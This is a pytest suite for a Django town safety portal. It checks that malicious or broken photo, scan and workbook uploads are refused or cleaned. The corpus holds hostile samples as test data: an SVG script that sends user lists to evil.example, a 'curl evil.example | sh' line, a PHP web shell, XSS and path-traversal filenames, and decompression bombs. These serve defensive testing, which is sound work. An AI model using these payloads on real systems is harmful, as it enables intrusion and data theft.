"""Bad uploads, each sent through the pages people use: refused in plain words or cleaned, never half-saved.

The corpus holds what reaches a town portal by mistake and what an attacker would try: decompression
bombs, scripts and programs renamed .jpg, an SVG with a script, truncated pictures, bodies over the limit,
photos that carry a GPS position, hostile file names, workbooks that are not workbooks or unpack to
gigabytes, and text that a spreadsheet would run as a formula. Each file goes through every page that
takes it, posted by a signed-in user as the browser would; afterwards the database and MEDIA_ROOT hold
exactly what they held before.

Messages are asserted in their English source form (these clients read English), so the tests hold
before and after the Chinese catalog is compiled; the Chinese wording is asserted where the catalog has it.
The memory a picture costs a web worker is measured in a separate process and printed (``pytest -s``).
"""

from __future__ import annotations

import datetime as dt
import functools
import io
import json
import os
import re
import socket
import struct
import subprocess
import sys
import textwrap
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit

import openpyxl
import pytest
from django.conf import settings as django_settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import DatabaseError
from django.urls import reverse
from django.utils import timezone, translation
from PIL import Image, ImageDraw

from chashan_safety.images import jpeg_is_decoded_whole
from incidents.models import Incident
from inspections.models import Finding, FindingEvent, Inspection, Site
from inspections.models import Photo as InspectionPhoto
from inspections.photos import process_photo
from outreach.models import Activity, Carrier, CarrierType
from outreach.models import Photo as OutreachPhoto
from responsibility.models import LetterTemplate, PartyKind, ResponsibilityLetter, TargetItem
from responsibility.signing import letters_issue
from supervision.models import FollowUp
from tests.builders import jpeg_bytes, make_site, record_findings
from tests.factories import ActivityFactory, FindingFactory, IncidentFactory
from tests.helpers import shows
from tests.inspections.test_inspection_create import finding_fields, inspection_post
from tests.supervision.helpers import close_general

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def media(settings, tmp_path) -> Path:
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


@pytest.fixture
def client_for(client_for):
    """Clients that read English: messages are asserted in their source form, before and after translation."""
    return lambda user=None, **defaults: client_for(user, **{"HTTP_ACCEPT_LANGUAGE": "en", **defaults})


def files_in(root: Path) -> list[Path]:
    return sorted(path for path in Path(root).rglob("*") if path.is_file()) if Path(root).exists() else []


def saved_state() -> dict:
    """What an upload could have written: rows of every kind a page with photos makes, and signed letters."""
    return {
        "inspection photos": InspectionPhoto.objects.count(),
        "outreach photos": OutreachPhoto.objects.count(),
        "inspections": Inspection.objects.count(),
        "findings": list(Finding.objects.order_by("pk").values_list("pk", "status")),
        "events": FindingEvent.objects.count(),
        "activities": Activity.objects.count(),
        "carriers": Carrier.objects.count(),
        "follow-ups done": FollowUp.objects.filter(done_at__isnull=False).count(),
        "letters signed": ResponsibilityLetter.objects.filter(signed_at__isnull=False).count(),
    }


# --- the corpus of pictures -------------------------------------------------------------------------------


def _png(image: Image.Image) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format="PNG")
    return buffer.getvalue()


def _saved(image: Image.Image, fmt: str, **options) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=fmt, **options)
    return buffer.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_claiming(width: int, height: int, *, colour_type: int = 0, depth: int = 1) -> bytes:
    """A tiny PNG whose header claims ``width`` × ``height`` pixels: decoding it would take what the header says."""
    header = struct.pack(">IIBBBBB", width, height, depth, colour_type, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + png_chunk(b"IEND", b"")
    )


def _frame_offset(data: bytes) -> int:
    """Where the start-of-frame segment of a JPEG begins."""
    position = 2
    while data[position + 1] not in (0xC0, 0xC2):
        position += 2 + int.from_bytes(data[position + 2 : position + 4], "big")
    return position


def jpeg_claiming(width: int, height: int, *, progressive: bool = False, mode: str = "RGB") -> bytes:
    """A small real JPEG whose frame header claims ``width`` × ``height`` pixels."""
    data = _saved(Image.new(mode, (16, 16)), "JPEG", progressive=progressive)
    frame = _frame_offset(data)
    return data[: frame + 5] + struct.pack(">HH", height, width) + data[frame + 9 :]


def gradient(size, mode: str = "RGB") -> Image.Image:
    """A picture with something in it (a truncated copy then breaks inside the compressed data)."""
    return Image.linear_gradient("L").resize(size).convert(mode)


@functools.cache
def truncated_jpeg() -> bytes:
    whole = _saved(gradient((1200, 900)), "JPEG", quality=90)
    return whole[: len(whole) // 2]


@functools.cache
def truncated_png() -> bytes:
    whole = _saved(Image.effect_noise((600, 400), 60).convert("RGB"), "PNG")
    return whole[: len(whole) // 2]


@functools.cache
def jpeg_with_thousands_of_scans() -> bytes:
    """A progressive JPEG whose last scan repeats: every scan is one more pass over the whole picture."""
    data = _saved(gradient((64, 64)), "JPEG", progressive=True)
    last_scan = data[data.rindex(b"\xff\xda") : -2]
    return data[:-2] + last_scan * 200 + b"\xff\xd9"


@functools.cache
def png_with_a_text_bomb() -> bytes:
    """A PNG with a compressed text chunk that unpacks to 64 MB."""
    picture = _png(Image.new("RGB", (8, 8), "red"))
    bomb = png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"A" * (64 * 1024 * 1024), 9))
    return picture[:33] + bomb + picture[33:]  # after the 8-byte signature and the 25-byte IHDR chunk


@functools.cache
def webp_of_12_megapixels() -> bytes:
    return _saved(Image.new("RGB", (4000, 3000), "red"), "WEBP", quality=10, method=0)


def zip_of(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


@functools.cache
def oversized_jpeg() -> bytes:
    """A real photo with 11 MB of padding after it: over the limit whatever is inside."""
    photo = jpeg_bytes(size=(1600, 1200))
    return photo + b"\x00" * (11 * 1024 * 1024 - len(photo))


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
    b'<script>fetch("/accounts/users/").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil.example",t))</script>'
    b'<rect width="100" height="100" fill="red"/></svg>'
)
WINDOWS_PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 50 + b"This program cannot be run in DOS mode.\r\n"


@dataclass(frozen=True)
class Bad:
    name: str
    content: object  # bytes, or a function that makes them (built once, when first used)
    content_type: str
    #: why it is refused: "unreadable", "format", "pixels", "whole-16", "whole-12", "whole-10", "size", "empty"
    reason: str

    def upload(self, name: str | None = None) -> SimpleUploadedFile:
        content = self.content() if callable(self.content) else self.content
        return SimpleUploadedFile(name or self.name, content, content_type=self.content_type)


BAD_PICTURES = {
    "decompression bomb: PNG claiming 30000×30000": Bad(
        "bomb.png", png_claiming(30_000, 30_000), "image/png", "pixels"
    ),
    "decompression bomb: JPEG claiming 60000×60000": Bad(
        "bomb.jpg", jpeg_claiming(60_000, 60_000), "image/jpeg", "pixels"
    ),
    "JPEG claiming 7000×7000 (49 megapixels)": Bad("big.jpg", jpeg_claiming(7_000, 7_000), "image/jpeg", "pixels"),
    "RGBA PNG claiming 4000×3500 (decoded whole)": Bad(
        "screen.png", png_claiming(4_000, 3_500, colour_type=6, depth=8), "image/png", "whole-12"
    ),
    "progressive JPEG claiming 5000×4000 (decoded whole)": Bad(
        "web.jpg", jpeg_claiming(5_000, 4_000, progressive=True), "image/jpeg", "whole-16"
    ),
    "progressive CMYK JPEG claiming 4000×3500 (decoded whole)": Bad(
        "print.jpg", jpeg_claiming(4_000, 3_500, progressive=True, mode="CMYK"), "image/jpeg", "whole-12"
    ),
    "WebP of 12 megapixels (decoded whole)": Bad("pic.webp", webp_of_12_megapixels, "image/webp", "whole-10"),
    "JPEG with 200 repeated scans": Bad("scans.jpg", jpeg_with_thousands_of_scans, "image/jpeg", "unreadable"),
    "PNG with a 64 MB text bomb": Bad("text.png", png_with_a_text_bomb, "image/png", "unreadable"),
    "HTML renamed .jpg": Bad(
        "photo.jpg", b"<!doctype html><html><body><script>alert(document.cookie)</script>", "image/jpeg", "unreadable"
    ),
    "PHP script renamed .jpg": Bad("shell.jpg", b"<?php system($_GET['c']); ?>", "image/jpeg", "unreadable"),
    "shell script renamed .jpg": Bad("run.jpg", b"#!/bin/sh\ncurl evil.example | sh\n", "image/jpeg", "unreadable"),
    "ELF program renamed .jpg": Bad("a.jpg", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120, "image/jpeg", "unreadable"),
    "Windows program renamed .jpg": Bad("setup.jpg", WINDOWS_PROGRAM, "image/jpeg", "unreadable"),
    "ZIP archive renamed .jpg": Bad(
        "photos.jpg", zip_of({"photo.jpg": jpeg_bytes(size=(40, 30))}), "image/jpeg", "unreadable"
    ),
    "PDF renamed .jpg": Bad("scan.jpg", b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n%%EOF", "image/jpeg", "unreadable"),
    "SVG with a script": Bad("logo.svg", SVG_WITH_SCRIPT, "image/svg+xml", "unreadable"),
    "SVG with a script renamed .jpg": Bad("logo.jpg", SVG_WITH_SCRIPT, "image/jpeg", "unreadable"),
    "iPhone HEIC, not converted": Bad(
        "IMG_0001.HEIC", b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 64, "image/heic", "unreadable"
    ),
    "truncated JPEG (half its bytes)": Bad("cut.jpg", truncated_jpeg, "image/jpeg", "unreadable"),
    "truncated PNG (half its bytes)": Bad("cut.png", truncated_png, "image/png", "unreadable"),
    "GIF": Bad("anim.gif", _saved(Image.new("RGB", (40, 40), "red"), "GIF"), "image/gif", "format"),
    "TIFF": Bad("scan.tif", _saved(Image.new("RGB", (40, 40), "red"), "TIFF"), "image/tiff", "format"),
    "photo of 11 MB": Bad("big.jpg", oversized_jpeg, "image/jpeg", "size"),
    "empty file": Bad("empty.jpg", b"", "image/jpeg", "empty"),
}

PHOTO_MESSAGES = {
    "unreadable": "This file is not a photo that can be read (JPEG, PNG or WebP).",
    "format": "Only JPEG, PNG or WebP photos are accepted.",
    "pixels": "The photo has too many pixels (at most 40 megapixels).",
    "whole-16": "The photo has too many pixels for a PNG, a WebP or a progressive JPEG (at most 16 megapixels)",
    "whole-12": "The photo has too many pixels for a PNG, a WebP or a progressive JPEG (at most 12 megapixels)",
    "whole-10": "The photo has too many pixels for a PNG, a WebP or a progressive JPEG (at most 10 megapixels)",
    "size": "A photo may be at most 10 MB; this one is 11.0 MB.",
    "empty": "The submitted file is empty.",
}
SCAN_MESSAGES = {
    "unreadable": "This file is not an image that can be read (JPEG, PNG or WebP).",
    "format": "This file is not an image that can be read (JPEG, PNG or WebP).",
    "pixels": "The image has too many pixels (at most 30 megapixels).",
    "whole-16": "The image has too many pixels for a PNG, a WebP or a progressive JPEG (at most 16 megapixels)",
    "whole-12": "The image has too many pixels for a PNG, a WebP or a progressive JPEG (at most 12 megapixels)",
    "whole-10": "The image has too many pixels for a PNG, a WebP or a progressive JPEG (at most 10 megapixels)",
    "size": "A scan may be at most 8 MB; this one is 11.0 MB.",
    "empty": "The submitted file is empty.",
}


# --- the pages that take photos ---------------------------------------------------------------------------


@pytest.fixture
def site(village_a):
    return make_site(village_a)


@pytest.fixture
def finding(media, safety_officer, site):
    return record_findings(officer=safety_officer, site=site)[0]


@pytest.fixture
def follow_up(finding, village_office, safety_officer):
    return FollowUp.objects.get(finding=close_general(finding, office=village_office, officer=safety_officer))


@pytest.fixture
def letter(db, town_admin, village_a):
    """This year's letter of village A, issued and waiting for the village office's signature."""
    year = timezone.localdate().year
    template = LetterTemplate.objects.create(
        year=year,
        party_kind=PartyKind.VILLAGE,
        title=f"{year}年度安全生产目标管理责任书",
        body="甲乙双方签订本责任书。",
    )
    TargetItem.objects.create(
        template=template, section=TargetItem.Section.ACCIDENT, text="全年不发生生产安全死亡事故", points=100, order=1
    )
    deadline = timezone.localdate() + dt.timedelta(days=20)
    letters_issue(year=year, deadline=deadline, by=town_admin, villages=[village_a], units=[])
    return ResponsibilityLetter.objects.get(village=village_a, year=year)


def fix_page(request):
    """The village office submits a fix with photos of the site after it."""
    finding = request.getfixturevalue("finding")
    client = request.getfixturevalue("client_for")(request.getfixturevalue("village_office"))
    url = reverse("inspections:finding-action", args=[finding.pk, "submit_fix"])
    return lambda upload: client.post(url, {"note": "已整改", "photos": [upload]})


def inspection_page(request):
    """An officer logs an inspection with a photo of it."""
    site = request.getfixturevalue("site")
    client = request.getfixturevalue("client_for")(request.getfixturevalue("safety_officer"))
    return lambda upload: client.post(reverse("inspections:inspection-create"), inspection_post(site, photos=[upload]))


def inspection_finding_page(request):
    """An officer logs an inspection with a finding and a photo of the hazard."""
    site = request.getfixturevalue("site")
    client = request.getfixturevalue("client_for")(request.getfixturevalue("safety_officer"))
    url = reverse("inspections:inspection-create")
    return lambda upload: client.post(url, inspection_post(site, findings=[finding_fields(photos=[upload])]))


def follow_up_page(request):
    """An officer records that the fix held, with a photo of the 回头看."""
    follow_up = request.getfixturevalue("follow_up")
    client = request.getfixturevalue("client_for")(request.getfixturevalue("safety_officer"))
    url = reverse("supervision:follow-up-detail", args=[follow_up.pk])
    return lambda upload: client.post(url, {"result": "held", "note": "通道保持畅通", "photos": [upload]})


def activity_page(request):
    """The village office records a drill with its photos."""
    village = request.getfixturevalue("village_a")
    client = request.getfixturevalue("client_for")(request.getfixturevalue("village_office"))
    data = {
        "kind": "drill",
        "title": "消防疏散演练",
        "held_on": timezone.localdate().isoformat(),
        "village": village.pk,
        "carrier": "",
        "organiser": "村安全办",
        "audience_count": "80",
        "feedback_score": "",
        "notes": "",
    }
    return lambda upload: client.post(reverse("outreach:activity-create"), {**data, "photos": [upload]})


def carrier_page(request):
    """The village office registers a publicity board with its photos."""
    village = request.getfixturevalue("village_a")
    client = request.getfixturevalue("client_for")(request.getfixturevalue("village_office"))
    data = {
        "type": CarrierType.objects.get(name="宣传栏").pk,
        "name": "村委会安全宣传栏",
        "village": village.pk,
        "address": "村委会门前",
        "latitude": "",
        "longitude": "",
        "status": "in_use",
        "opening_hours": "",
        "capacity": "",
        "notes": "",
    }
    return lambda upload: client.post(reverse("outreach:carrier-create"), {**data, "photos": [upload]})


def scan_page(request):
    """The village office signs its letter by uploading a scan of the stamped paper copy."""
    letter = request.getfixturevalue("letter")
    client = request.getfixturevalue("client_for")(request.getfixturevalue("village_office"))
    url = reverse("responsibility:rletter-sign", args=[letter.pk])
    data = {"method": "scan", "signer_name": "何村长", "confirm": "on"}
    return lambda upload: client.post(url, {**data, "scan": upload})


#: each page, ready to post one file as its form would
PHOTO_PAGES = {
    "a finding's fix": fix_page,
    "a new inspection": inspection_page,
    "a new inspection's finding": inspection_finding_page,
    "a follow-up (回头看)": follow_up_page,
    "an outreach activity": activity_page,
    "an outreach carrier": carrier_page,
}


# --- bad pictures are refused everywhere, and leave nothing behind ----------------------------------------


def refused_and_nothing_saved(request, media, page: str, case: str) -> None:
    send = PHOTO_PAGES[page](request)
    bad = BAD_PICTURES[case]
    before, files_before = saved_state(), files_in(media)

    response = send(bad.upload())

    assert response.status_code == 200  # the form again, with the message
    assert shows(response, PHOTO_MESSAGES[bad.reason])
    assert saved_state() == before
    assert files_in(media) == files_before


@pytest.mark.parametrize("case", BAD_PICTURES, ids=list(BAD_PICTURES))
def test_a_bad_picture_is_refused_in_plain_words_and_leaves_nothing_behind(request, db, media, case):
    refused_and_nothing_saved(request, media, "a finding's fix", case)


#: one of each kind of refusal, for every other page that takes photos
EACH_KIND = [
    "decompression bomb: PNG claiming 30000×30000",
    "RGBA PNG claiming 4000×3500 (decoded whole)",
    "PHP script renamed .jpg",
    "SVG with a script",
    "truncated JPEG (half its bytes)",
    "GIF",
    "photo of 11 MB",
]


@pytest.mark.parametrize("page", [page for page in PHOTO_PAGES if page != "a finding's fix"])
@pytest.mark.parametrize("case", EACH_KIND)
def test_every_page_that_takes_photos_refuses_bad_ones_and_saves_nothing(request, db, media, case, page):
    refused_and_nothing_saved(request, media, page, case)


@pytest.mark.parametrize("case", BAD_PICTURES, ids=list(BAD_PICTURES))
def test_a_bad_picture_is_refused_as_a_letters_scan_and_the_letter_stays_unsigned(request, media, letter, case):
    bad = BAD_PICTURES[case]

    response = scan_page(request)(bad.upload())

    assert response.status_code == 400
    assert shows(response, SCAN_MESSAGES[bad.reason])
    letter.refresh_from_db()
    assert (letter.signed_at, letter.signature, letter.signature_sha256) == (None, None, "")
    assert files_in(media) == []


@pytest.mark.parametrize("case", ["truncated JPEG (half its bytes)", "truncated PNG (half its bytes)"])
def test_a_truncated_picture_is_refused_even_in_a_worker_that_has_made_a_pdf(request, db, media, monkeypatch, case):
    """Importing WeasyPrint (where a PDF is made) switches Pillow to decoding truncated files for the whole process."""
    from PIL import ImageFile

    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)

    refused_and_nothing_saved(request, media, "a finding's fix", case)
    assert ImageFile.LOAD_TRUNCATED_IMAGES  # what WeasyPrint set is left as it was


def test_a_clerk_reading_chinese_is_told_in_chinese(client_for, village_office, finding):
    client = client_for(village_office, HTTP_ACCEPT_LANGUAGE="zh-hans")
    url = reverse("inspections:finding-action", args=[finding.pk, "submit_fix"])
    upload = BAD_PICTURES["PHP script renamed .jpg"].upload()

    response = client.post(url, {"note": "已整改", "photos": [upload]})

    assert shows(response, "shell.jpg：该文件不是可读取的照片（JPEG、PNG 或 WebP）。")


def test_the_message_names_the_file_without_running_markup_in_its_name(client_for, village_office, finding):
    url = reverse("inspections:finding-action", args=[finding.pk, "submit_fix"])
    upload = BAD_PICTURES["HTML renamed .jpg"].upload(name="<img src=x onerror=alert(1)>.jpg")

    response = client_for(village_office).post(url, {"note": "已整改", "photos": [upload]})

    page = response.content.decode()
    assert "&lt;img src=x onerror=alert(1)&gt;.jpg: This file is not a photo" in page
    assert "<img src=x" not in page


def test_a_drawn_signature_declaring_a_huge_pad_is_refused(client_for, village_office, letter):
    import base64

    bomb = "data:image/png;base64," + base64.b64encode(png_claiming(30_000, 30_000)).decode()
    data = {"method": "drawn", "signer_name": "何村长", "confirm": "on", "signature": bomb}

    response = client_for(village_office).post(reverse("responsibility:rletter-sign", args=[letter.pk]), data)

    assert response.status_code == 400
    assert shows(response, "The drawn signature is too large (at most 8 megapixels).")
    letter.refresh_from_db()
    assert letter.signed_at is None


def test_an_svg_sent_as_a_drawn_signature_is_refused(client_for, village_office, letter):
    import base64

    svg = "data:image/svg+xml;base64," + base64.b64encode(SVG_WITH_SCRIPT).decode()
    data = {"method": "drawn", "signer_name": "何村长", "confirm": "on", "signature": svg}

    response = client_for(village_office).post(reverse("responsibility:rletter-sign", args=[letter.pk]), data)

    assert response.status_code == 400
    assert shows(response, "The drawn signature is not a PNG image.")
    letter.refresh_from_db()
    assert letter.signed_at is None


# --- pictures that are taken, and come out clean ----------------------------------------------------------

XMP_WITH_POSITION = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    b'<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="22,58.208N" '
    b'exif:GPSLongitude="113,51.503E"/></rdf:RDF></x:xmpmeta>'
)
#: what must not reach the disk from the pictures below
LEAKS = [b"Exif", b"GPS", b"PhoneMaker", b"xmpmeta", b"22,58", b"<?php", b"<script", b"ICC_PROFILE"]


def exif_with_position() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x010E] = "<script>alert(1)</script>"  # ImageDescription
    exif[0x8825] = {1: "N", 2: (22.0, 58.0, 12.5), 3: "E", 4: (113.0, 51.0, 30.2)}  # the GPS IFD
    return exif.tobytes()


@functools.cache
def phone_photo_with_position() -> bytes:
    """A phone's photo that says where it was taken three times over: EXIF GPS, XMP, and a comment."""
    return _saved(
        gradient((1200, 900)),
        "JPEG",
        exif=exif_with_position(),
        xmp=XMP_WITH_POSITION,
        comment=b"GPS 22,58.208N 113,51.503E",
        icc_profile=b"ICC_PROFILE of the phone",
    )


def jpeg_php_polyglot() -> bytes:
    """A real JPEG that is also a PHP and an HTML file: code in its comment, markup after its end."""
    photo = _saved(gradient((400, 300)), "JPEG", comment=b'<?php system($_GET["c"]); ?>')
    return photo + b"<script>alert(document.cookie)</script>"


def png_with_a_comment() -> bytes:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("comment", '<?php system($_GET["c"]); ?>')
    return _saved(Image.new("RGB", (300, 200), "blue"), "PNG", pnginfo=info)


def phone_mpo() -> bytes:
    """A phone's JPEG with a second picture inside (a depth or HDR map): Pillow calls it MPO."""
    main, extra = gradient((640, 480)), Image.new("L", (160, 120), 128).convert("RGB")
    return _saved(main, "MPO", save_all=True, append_images=[extra])


def palette_png_with_transparency() -> bytes:
    image = Image.new("P", (200, 100), 0)
    image.putpalette([255, 0, 0, 0, 0, 255] + [0] * 762)
    ImageDraw.Draw(image).rectangle([0, 0, 99, 99], fill=1)
    return _saved(image, "PNG", transparency=0)


TAKEN = {
    "a phone photo with its GPS position in EXIF, XMP and a comment": ("gps.jpg", phone_photo_with_position),
    "a JPEG that is also PHP and HTML": ("polyglot.jpg", jpeg_php_polyglot),
    "a PNG with a comment chunk": ("comment.png", png_with_a_comment),
    "a phone's MPO (JPEG with a depth map)": ("IMG_0002.JPG", phone_mpo),
    "a CMYK JPEG": ("print.jpg", lambda: _saved(Image.new("CMYK", (300, 200), (0, 200, 200, 0)), "JPEG")),
    "a progressive JPEG": ("web.jpg", lambda: _saved(gradient((800, 600)), "JPEG", progressive=True)),
    "a 16-bit grey PNG": ("depth.png", lambda: _png(Image.new("I;16", (300, 200), 40_000))),
    "a palette PNG with transparency": ("icon.png", palette_png_with_transparency),
    "a grey PNG with alpha": ("la.png", lambda: _png(Image.new("LA", (300, 200), (90, 200)))),
    "a 1-bit PNG": ("fax.png", lambda: _png(Image.new("1", (300, 200), 1))),
    "a WebP with alpha": ("sticker.webp", lambda: _saved(Image.new("RGBA", (300, 200), (0, 160, 0, 128)), "WEBP")),
}


def served(client, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def assert_clean_jpeg(data: bytes) -> Image.Image:
    picture = Image.open(io.BytesIO(data))
    assert picture.format == "JPEG" and picture.mode == "RGB"
    assert not picture.getexif()
    assert not {"exif", "xmp", "comment", "icc_profile"} & set(picture.info)
    for leak in LEAKS:
        assert leak not in data, leak
    return picture


@pytest.mark.parametrize("case", TAKEN, ids=list(TAKEN))
def test_an_odd_but_real_picture_is_taken_and_stored_as_a_plain_jpeg(client_for, village_office, finding, case):
    name, make = TAKEN[case]
    client = client_for(village_office)
    url = reverse("inspections:finding-action", args=[finding.pk, "submit_fix"])

    response = client.post(url, {"note": "已整改", "photos": [SimpleUploadedFile(name, make())]})

    assert response.status_code == 302
    photo = InspectionPhoto.objects.get(finding=finding, kind=InspectionPhoto.Kind.AFTER)
    for size in ("full", "thumb"):
        assert_clean_jpeg(served(client, reverse("inspections:photo", args=[photo.pk, size])))


def test_the_gps_position_of_an_outreach_photo_is_gone_too(client_for, village_office, village_a, media):
    client = client_for(village_office)
    activity = ActivityFactory(village=village_a, kind="drill", held_on=timezone.localdate())
    data = {
        "kind": "drill",
        "title": activity.title,
        "held_on": activity.held_on.isoformat(),
        "village": village_a.pk,
        "carrier": "",
        "organiser": "村安全办",
        "audience_count": "80",
        "feedback_score": "",
        "notes": "",
        "photos": [SimpleUploadedFile("drill.jpg", phone_photo_with_position())],
    }

    response = client.post(reverse("outreach:activity-edit", args=[activity.pk]), data)

    assert response.status_code == 302
    photo = OutreachPhoto.objects.get(activity=activity)
    for size in ("full", "thumb"):
        assert_clean_jpeg(served(client, reverse("outreach:photo", args=[photo.pk, size])))


def test_a_scan_of_a_letter_keeps_no_position_or_comment_either(request, client_for, village_office, letter):
    response = scan_page(request)(SimpleUploadedFile("signed.jpg", phone_photo_with_position()))

    assert response.status_code == 302
    letter.refresh_from_db()
    assert letter.signed_at is not None
    served_scan = client_for(village_office).get(reverse("responsibility:rletter-signature", args=[letter.pk]))
    assert served_scan.content == bytes(letter.signature)
    assert_clean_jpeg(served_scan.content)


HOSTILE_NAMES = [
    "../../../../etc/cron.d/evil.jpg",
    "..\\..\\..\\windows\\system32\\evil.jpg",
    "现场照片（二〇二六年五月 夜查）.JPG",
    "photo.php.jpg",
    "shell.php",
    ".htaccess",
    "invoice\u202egpj.exe",
    "<img src=x onerror=alert(1)>.jpg",
    "CON.jpg",
    "x" * 300 + ".jpg",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES, ids=[name[:40] for name in HOSTILE_NAMES])
def test_the_stored_file_name_is_the_servers_whatever_the_upload_was_called(
    client_for, village_office, finding, media, name
):
    client = client_for(village_office)
    url = reverse("inspections:finding-action", args=[finding.pk, "submit_fix"])
    before = set(files_in(media))

    response = client.post(url, {"note": "已整改", "photos": [SimpleUploadedFile(name, jpeg_bytes())]})

    assert response.status_code == 302
    photo = InspectionPhoto.objects.get(finding=finding, kind=InspectionPhoto.Kind.AFTER)
    for stored in (photo.image.name, photo.thumbnail.name):
        assert re.fullmatch(r"photos/\d{4}/\d{2}/[0-9a-f]{32}\.jpg", stored), stored
    assert set(files_in(media)) - before == {media / photo.image.name, media / photo.thumbnail.name}
    download = client.get(reverse("inspections:photo", args=[photo.pk, "full"]))
    assert download["Content-Disposition"] == f'inline; filename="{finding.number}-{photo.pk}.jpg"'


# --- request bodies over the limit ------------------------------------------------------------------------


class UnreadableBody(io.RawIOBase):
    """A request body that fails the test if anyone reads it: a refusal must come from the headers alone."""

    def read(self, *args):
        raise AssertionError("the body of a request over the limit was read")

    readline = read


def test_a_body_far_over_the_limit_is_refused_with_413_before_it_is_read(client_for, village_office, finding, media):
    url = reverse("inspections:finding-action", args=[finding.pk, "submit_fix"])
    before = saved_state()

    response = client_for(village_office).generic(
        "POST",
        url,
        CONTENT_TYPE="multipart/form-data; boundary=BoUnDaRy",
        CONTENT_LENGTH=str(2 * 1024**3),  # 2 GB
        **{"wsgi.input": UnreadableBody()},
    )

    assert response.status_code == 413
    page = response.content.decode()
    assert "提交的内容过大" in page
    assert "一次提交最多 128 MB" in page
    assert saved_state() == before
    assert files_in(media) == []


def test_the_limit_is_a_setting(client_for, village_office, settings):
    settings.MAX_REQUEST_BODY_BYTES = 1024 * 1024
    data = {"note": "已整改", "photos": [BAD_PICTURES["photo of 11 MB"].upload()]}

    response = client_for(village_office).post(reverse("home"), data)

    assert response.status_code == 413
    assert "一次提交最多 1 MB" in response.content.decode()


def test_a_form_body_over_what_django_reads_is_refused_with_413_too(client_for, village_office):
    response = client_for(village_office).generic(
        "POST",
        reverse("home"),
        CONTENT_TYPE="application/x-www-form-urlencoded",
        CONTENT_LENGTH=str(django_settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1),
        **{"wsgi.input": UnreadableBody()},
    )
    assert response.status_code == 413


def test_a_body_within_the_limit_reaches_the_page(client_for, village_office, finding):
    """An 11 MB photo is under the 128 MB body limit: the page itself says the photo is too large."""
    url = reverse("inspections:finding-action", args=[finding.pk, "submit_fix"])
    response = client_for(village_office).post(
        url, {"note": "已整改", "photos": [BAD_PICTURES["photo of 11 MB"].upload()]}
    )
    assert response.status_code == 200
    assert shows(response, PHOTO_MESSAGES["size"])


def test_over_a_real_socket_the_413_comes_before_the_body_is_sent(live_server):
    """The server answers from the headers: a client announcing 2 GB gets 413 after sending 64 KB of it."""
    address = urlsplit(live_server.url)
    with socket.create_connection((address.hostname, address.port), timeout=10) as connection:
        connection.sendall(
            b"POST /findings/1/submit_fix/ HTTP/1.1\r\n"
            + f"Host: {address.hostname}\r\n".encode()
            + b"Content-Type: multipart/form-data; boundary=BoUnDaRy\r\n"
            + f"Content-Length: {2 * 1024**3}\r\n\r\n".encode()
            + b"x" * 65536
        )
        answer = read_response(connection)
    assert answer.startswith(b"HTTP/1.1 413")
    assert "提交的内容过大".encode() in answer


def read_response(connection: socket.socket) -> bytes:
    """The status line, headers and body of one HTTP response (its Content-Length says where it ends)."""
    received = b""
    while b"\r\n\r\n" not in received:
        received += connection.recv(65536)
    head, body = received.split(b"\r\n\r\n", 1)
    length = int(re.search(rb"(?i)content-length: *(\d+)", head).group(1))
    while len(body) < length:
        body += connection.recv(65536)
    return head + b"\r\n\r\n" + body


# --- Excel imports: files that are not workbooks, or unpack to far more than they weigh ---------------------


def incident_headers() -> list[str]:
    from incidents.imports import COLUMNS

    with translation.override("zh-hans"):
        return [str(column.label) for column in COLUMNS]


def incident_row(summary: str = "员工受伤", *, location="工业区", cause="违规操作") -> list:
    """A row in the incident template's column order."""
    return ["2019-03-05 14:20", "上元村", location, "", "", "production", "五金", 0, 1, 0, 1000, cause, summary]


def as_text(sheet, row: int) -> None:
    """Keep a typed "=…" as text in the test's own workbook (openpyxl would write it as a formula)."""
    for cell in sheet[row]:
        if isinstance(cell.value, str) and cell.value.startswith("="):
            cell.data_type = "s"


@functools.cache
def incident_workbook() -> bytes:
    book = openpyxl.Workbook()
    book.active.append(incident_headers())
    book.active.append(incident_row())
    return _saved_book(book)


def _saved_book(book) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def rewritten(workbook: bytes, name: str, write) -> bytes:
    """``workbook`` with its member ``name`` written anew by ``write(stream)``."""
    buffer = io.BytesIO()
